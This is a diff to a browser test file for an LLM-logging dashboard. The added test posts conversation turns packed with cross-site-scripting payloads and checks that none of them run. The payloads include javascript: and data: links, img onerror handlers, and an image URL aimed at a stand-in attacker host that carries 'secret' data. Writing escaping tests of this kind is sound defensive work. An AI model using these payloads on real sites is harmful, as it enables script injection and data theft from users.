@@ -6,7 +6,7 @@
 // a control page proves the same payloads do run when rendered as HTML, so silence means escaping.
 import type { Page } from "playwright-core";
 import { beforeAll, describe, expect, it } from "vitest";
-import { signIn, useBrowser } from "./browser";
+import { baseURL, signIn, useBrowser } from "./browser";
 import {
   T,
   apiGet,
@@ -248,6 +248,69 @@ describe("no payload runs in the dashboard", () => {
     await page.goto(`/logs?userId=${encodeURIComponent(userId)}`);
     await countIs(list.locator("li[data-log-id]"), 1);
     await expectNothingRan(page, watched);
+  });
+
+  it("a conversation's turns: markdown links, raw HTML and images in every kind of turn", async () => {
+    // An organization of its own, so the counts above stay the payload logs'.
+    const own = await registerOrg("XSS Turns Org");
+    const markdown = [
+      `[click me](javascript:__xss(30)) [again](JaVaScRiPt:__xss(31)) [data](data:text/html,<script>__xss(32)</script>)`,
+      `![x](javascript:__xss(33)) ![leak](https://attacker.invalid/p.png?d=secret) <img src=x onerror=__xss(34)>`,
+      "```html\n<img src=x onerror=__xss(35)>\n```",
+      ALL,
+    ].join("\n\n");
+    const res = await fetch(`${baseURL()}/api/logs`, {
+      method: "POST",
+      headers: { "Content-Type": "application/json", Authorization: `Bearer ${own.apiKey}` },
+      body: JSON.stringify({
+        prompt: `${MARK} conversation`,
+        response: markdown,
+        model: "gpt-4o",
+        metadata: metadataPayload,
+        messages: [
+          { role: "system", content: markdown, name: PAYLOADS.svg },
+          {
+            role: "user",
+            content: [
+              { type: "text", text: markdown },
+              { type: "media", kind: PAYLOADS.img },
+            ],
+          },
+          {
+            role: "assistant",
+            content: null,
+            toolCalls: [{ id: PAYLOADS.iframe, name: PAYLOADS.script, arguments: JSON.stringify({ html: ALL }) }],
+          },
+          { role: "tool", content: markdown, toolCallId: PAYLOADS.attribute },
+        ],
+      }),
+    });
+    expect(res.status, await res.clone().text()).toBe(201);
+    const { id } = (await res.json()) as { id: string };
+    const page = await browser.page();
+    const watched = await watch(page);
+    // Images in turns are never fetched: no request may leave for the attacker's host.
+    const outbound: string[] = [];
+    page.on("request", (r) => {
+      if (!r.url().startsWith(baseURL())) outbound.push(r.url());
+    });
+    await signIn(page, own.apiKey);
+    await page.goto(`/logs/${id}`);
+    const dialog = await visible(page.getByRole("dialog", { name: "Prompt Details" }));
+    await countIs(dialog.getByTestId("turn"), 4);
+    // the markdown chunk has rendered: the fenced block is a highlighted code element
+    await visible(dialog.locator("code.hljs").first());
+    await visible(dialog.getByText("click me").first());
+    await expectNothingRan(page, watched);
+    expect(await dialog.locator("a").evaluateAll((links) => links.map((a) => a.getAttribute("href")))).not.toContainEqual(
+      expect.stringMatching(/^\s*(javascript|data):/i),
+    );
+    expect(await dialog.locator("img").count()).toBe(0);
+    await dialog.getByRole("button", { name: "Raw" }).click();
+    await visible(dialog.getByRole("region", { name: "Prompt", exact: true }).getByText(`${MARK} conversation`));
+    await dialog.getByRole("button", { name: /Metadata JSON/ }).click();
+    await expectNothingRan(page, watched);
+    expect(outbound).toEqual([]);
   });
 
   it("Red Flags, Alerts and Analytics", async () => {
